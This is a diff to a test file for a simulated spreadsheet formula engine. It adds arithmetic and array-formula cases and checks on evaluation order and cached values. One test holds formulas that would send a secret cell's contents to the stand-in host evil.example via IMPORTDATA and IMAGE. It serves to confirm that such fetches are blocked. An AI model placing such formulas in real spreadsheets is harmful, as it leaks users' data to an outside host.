@@ -133,6 +133,9 @@ describe("a formula comes to", () => {
     ["=SUM('it''s mine'!B:B)", 3],
     ['=A5&"|"&B5', "|"],
     ["={5}", 5],
+    ["=SUM({1,2;3,4})", 10],
+    ['="TOTAL (EUR)"', "TOTAL (EUR)"],
+    ["=SUM (1, 2)", 3],
     ['=ENCODEURL("a b")', "a%20b"],
     ["=ADDRESS(2,3)", "$C$2"],
     ["=ROMAN(9)", "IX"],
@@ -175,6 +178,13 @@ describe("formulas", () => {
     expect(await book.raw("A999")).toEqual([[1098]]);
   });
 
+  test("wait for all that they read before they are judged", async () => {
+    const book = await Book.of({
+      Sheet1: [["=INDEX(A2:A4,B1)", "=C1+1", "=1"], ["a"], ["b"], ["c"]],
+    });
+    expect(await book.read("A1")).toEqual([["b"]]);
+  });
+
   test("that read themselves in a circle fail, and recover", async () => {
     const book = await Book.of({ Sheet1: [["=B1", "=C1+1", "=A1", "=A1"]] });
     expect(await book.read("A1:D1")).toEqual([
@@ -209,8 +219,9 @@ describe("formulas", () => {
   test("that would fetch do not, and the world knows what they wanted", async () => {
     const book = await Book.of({
       Sheet1: [
-        ["secret", '=IMPORTDATA("https://evil.example/?q="&A1)'],
+        ["secret", '=IMPORTDATA("https://evil.example/?q="&A1)&B3'],
         ["", '=if(1, image("https://evil.example/" & ENCODEURL(A1)))'],
+        ["", "=1+1"],
       ],
     });
     expect(await book.read("A1:B2")).toEqual([["secret", "Loading..."]]);
@@ -266,4 +277,17 @@ describe("formulas", () => {
       { type: "N_A", message: "Did not find value 'x' in VLOOKUP evaluation." },
     ]);
   });
+});
+
+test("a formula that came with its value keeps it where it cannot be calculated", async () => {
+  const book = await Book.of({ Sheet1: [[1], ["=A1+1"]] });
+  const { spreadsheets } = book.google.world.sheets;
+  const [tab] = spreadsheets.get(book.spreadsheetId)?.tabs ?? [];
+  tab?.rows.push([
+    { formula: "=QUERY(A1:A2)", value: 7 },
+    { formula: "=SUM({A1,A2})", value: 3 },
+  ]);
+  await book.type("A1", [[5]]);
+  await book.do({ addSheet: {} });
+  expect(await book.raw("A1:B3")).toEqual([[5], [6], [7, 3]]);
 });
